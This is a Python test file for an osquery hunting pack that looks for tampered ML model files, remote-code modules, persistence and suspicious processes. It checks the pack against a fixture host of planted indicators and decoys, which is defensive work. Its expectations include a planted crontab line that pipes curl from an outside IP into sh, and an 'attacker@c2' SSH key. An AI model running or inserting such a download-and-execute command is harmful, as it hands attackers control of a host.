"""packaging/osquery/mlsleuth-ml-hunt.conf run without osquery (tests/fleet/osquery_emu.py says
how faithfully): every query prepares against osquery's own Linux schemas, constrains the tables
osquery needs constrained, returns the fixture host's planted rows and none of its decoys."""

from __future__ import annotations

import json
import sqlite3

import pytest
from fleet_host import SIGFILE, STORY_NOW, build_fleet_host, live_rows, package_rows
from fleet_paths import OSQUERY_SCHEMA, PACKAGING, YARA_RULES
from osquery_emu import (
    OSQUERY_FUNCTIONS,
    SQLITE_FUNCTIONS,
    OsqueryEmulator,
    constraint_problems,
    function_calls,
    glob_regex,
    regex_literals,
)

PACK = PACKAGING / "osquery" / "mlsleuth-ml-hunt.conf"
needs_schema = pytest.mark.skipif(not OSQUERY_SCHEMA.is_file(),
                                  reason=f"osquery schemas not found at {OSQUERY_SCHEMA} (CI has shared/ beside the clone)")

try:
    import yara  # noqa: F401

    HAVE_YARA = True
except ImportError:
    HAVE_YARA = False


def pack() -> dict:
    return json.loads(PACK.read_text())


QUERIES = sorted(pack()["queries"])


@pytest.fixture(scope="module")
def host(tmp_path_factory):
    root = tmp_path_factory.mktemp("fleet-host") / "host"
    planted, extra, marker = build_fleet_host(root)
    yield root, planted, extra
    assert not marker.exists(), "a fixture payload was executed"


@pytest.fixture(scope="module")
def emu(host):
    root, planted, _ = host
    e = OsqueryEmulator(OSQUERY_SCHEMA, now=STORY_NOW)
    e.load_tree(root, SIGFILE if HAVE_YARA else None, YARA_RULES)
    users = e.load_users(root)
    e.load_shell_history(root, users)
    e.load_authorized_keys(root, users)
    e.load_crontabs(root)
    rows = live_rows()
    rows["python_packages"] += package_rows(planted)
    for table, r in rows.items():
        e.insert(table, r)
    return e


def test_pack_shape():
    p = pack()
    assert p["platform"] == "linux"
    for name, q in p["queries"].items():
        assert set(q) >= {"query", "interval", "description", "snapshot"}, name
        assert isinstance(q["snapshot"], bool) and q["interval"] >= 60, name
        assert "Cost:" in q["description"], f"{name}: say what the query costs"
        assert q["query"].rstrip().endswith(";")
        if q["snapshot"]:
            assert "removed" not in q, f"{name}: 'removed' only applies to differential queries"


@needs_schema
@pytest.mark.parametrize("name", QUERIES)
def test_query_is_valid_osquery_sql(emu, name):
    sql = pack()["queries"][name]["query"]
    emu.prepare(sql)  # unknown table, column or function fails here
    assert not constraint_problems(sql)
    unknown = function_calls(sql) - OSQUERY_FUNCTIONS - SQLITE_FUNCTIONS
    assert not unknown, f"functions osquery's SQLite lacks: {unknown}"
    for rx in regex_literals(sql):
        assert len(rx.encode()) < 256, "osquery caps regexes at 256 bytes"


@needs_schema
def test_unknown_column_fails_to_prepare(emu):
    with pytest.raises(sqlite3.OperationalError):
        emu.prepare("SELECT f.sha256 FROM file f WHERE f.path LIKE '/x/%';")
    assert constraint_problems("SELECT * FROM file f WHERE f.size > 0;")
    assert constraint_problems("SELECT * FROM file f JOIN yara y ON y.path = f.path WHERE f.path = '/x';")


def test_glob_semantics_match_osquery():
    one = glob_regex("/home/%/.cache/x/%")
    assert one.match("/home/alice/.cache/x/a") and not one.match("/home/alice/.cache/x/a/b")
    assert not one.match("/home/alice/.cache/x/.hidden")  # glob(3): '*' skips leading dots
    rec = glob_regex("/home/%/.cache/x/%%")
    assert rec.match("/home/alice/.cache/x/a/b/.c") and not rec.match("/home/alice/.cache/y/a")
    mid = glob_regex("/home/%%/x")  # %% recurses only at the end
    assert mid.match("/home/alice/x") and not mid.match("/home/alice/deep/x")


def expectations(planted, x) -> dict[str, tuple[str, set, set, bool]]:
    """query -> (column, values that must come back, decoy values that must not, exact set?)."""
    blobs = {f.blob for r in planted.repos for f in r.files} | {i for r in planted.repos for i in r.incomplete}
    lfs = {f.blob: f.oid for r in planted.repos for f in r.files if f.lfs}
    snapshots = {f.snapshot for r in planted.repos for f in r.files}
    remote = {p for p in planted.remote_code if not p.endswith("__init__.py")}
    hashes = {f"{p}={s}" for p, s in lfs.items()}
    hashes |= {f"{p}={x.sha256[p]}" for p in x.torch_checkpoints + x.keras_models}
    hashes |= {f"{x.ollama_blob}={x.ollama_sha256}"}
    # the altered blob is reported under the hash it is named after; hf_blob_integrity catches it
    hashes |= {f"{x.tampered_blob}={x.tampered_blob.rsplit('/', 1)[1]}"}
    evil_blob = next(f.blob for r in planted.repos for f in r.files if f.path == "pytorch_model.bin")
    d = x.decoys
    return {
        "hf_cache_blobs": ("path", blobs | {x.tampered_blob}, {d["hub_version_txt"], *snapshots}, True),
        "hf_cache_snapshots": ("path", snapshots | {x.tampered_snapshot}, blobs, True),
        "model_file_hashes": ("path=sha256", hashes,
                              {f"{d['torch_nested']}={x.sha256[d['torch_nested']]}",
                               f"{d['downloads_model']}={x.sha256[d['downloads_model']]}"}, True),
        "hf_blob_integrity": ("path", {x.tampered_blob}, set(lfs), True),
        "remote_code_modules": ("path", remote | {x.hubconf}, set(planted.remote_code) - remote | {d["hub_readme"]}, True),
        "yara_model_files": ("path", {evil_blob, x.torch_evil, x.keras_evil, x.tampered_blob},
                             {d["torch_nested"], d["downloads_model"], *x.torch_checkpoints[:1], x.keras_models[1]}, True),
        "python_packages_ml": ("name", {d_.name for d_ in planted.distributions} | {"torch"}, {"requests"}, True),
        "model_loading_processes": ("pid", {2500, 2501, 2502}, {2503, 2504, 2200}, True),
        "jupyter_kernel_children": ("pid", {2300, 2301}, {2302, 2400, 2200}, True),
        "mlops_listening_ports": ("pid", {2100, 2600}, {2101, 2601, 2700, 2200}, True),
        "shell_history_model_activity": ("command", {"huggingface-cli download meta-1lama/Llama-3.2-1B-Instruct"},
                                         {"ls ~/.cache/huggingface/hub", "jupyter lab --no-browser"}, False),
        "authorized_keys_entries": ("comment", {"attacker@c2", "alice@laptop"}, set(), True),
        "persistence_recent_changes": ("path", {"/home/alice/.ssh/authorized_keys", x.cron_dropper,
                                                "/home/bob/.config/systemd/user/gpu-monitor.service"},
                                       {"/var/spool/cron/crontabs/root"}, True),
        "crontab_entries": ("command", {"root curl -s http://203.0.113.7/u | sh"},
                            {"/usr/bin/find /var/tmp -type f -mtime +7 -delete", "/usr/bin/apt-get -qq update"}, True),
    }


def test_every_query_has_an_expectation(host):
    _, planted, extra = host
    assert set(expectations(planted, extra)) == set(QUERIES)


@needs_schema
@pytest.mark.parametrize("name", QUERIES)
def test_query_returns_planted_rows_and_no_decoy(emu, host, name):
    _, planted, extra = host
    if name == "yara_model_files" and not HAVE_YARA:
        pytest.skip("yara-python not installed: the yara table cannot be emulated")
    column, planted_values, decoys, exact = expectations(planted, extra)[name]
    rows = emu.query(pack()["queries"][name]["query"])
    if column == "path=sha256":
        got = {f"{r['path']}={r['sha256']}" for r in rows}
    else:
        got = {r[column] for r in rows}
    assert planted_values <= got, f"missing: {sorted(map(str, planted_values - got))}"
    assert not (decoys & got), f"decoys returned: {sorted(map(str, decoys & got))}"
    if exact:
        assert got == planted_values, f"unexpected: {sorted(map(str, got - planted_values))}"


@needs_schema
def test_snapshot_rows_name_repo_revision_and_blob(emu, host):
    _, planted, _ = host
    rows = {r["path"]: r for r in emu.query(pack()["queries"]["hf_cache_snapshots"]["query"])}
    for repo in planted.repos:
        for f in repo.files:
            row = rows[f.snapshot]
            assert row["model_repo"] == repo.model_repo
            assert (row["revision"], row["repo_file"], row["blob_id"]) == (repo.commit, f.path, f.oid)


def test_fleet_yaml_export_is_current(tmp_path):
    import subprocess
    import sys

    out = tmp_path / "fleet.yml"
    subprocess.run([sys.executable, str(PACKAGING / "osquery" / "make_fleet_yaml.py"), "--output", str(out)],
                   check=True)
    assert out.read_text() == (PACKAGING / "osquery" / "fleet" / "mlsleuth-ml-hunt.yml").read_text()


def test_fleet_yaml_maps_logging_like_fleet():
    import yaml

    docs = list(yaml.safe_load_all((PACKAGING / "osquery" / "fleet" / "mlsleuth-ml-hunt.yml").read_text()))
    specs = {d["spec"]["name"]: d["spec"] for d in docs}
    assert all(d["apiVersion"] == "v1" and d["kind"] == "query" for d in docs)
    for name, q in pack()["queries"].items():
        spec = specs[f"mlsleuth_{name}"]
        assert spec["query"] == q["query"] and spec["interval"] == q["interval"]
        want = "snapshot" if q["snapshot"] else (
            "differential" if q.get("removed", True) else "differential_ignore_removals")
        assert spec["logging"] == want and spec["platform"] == "linux"
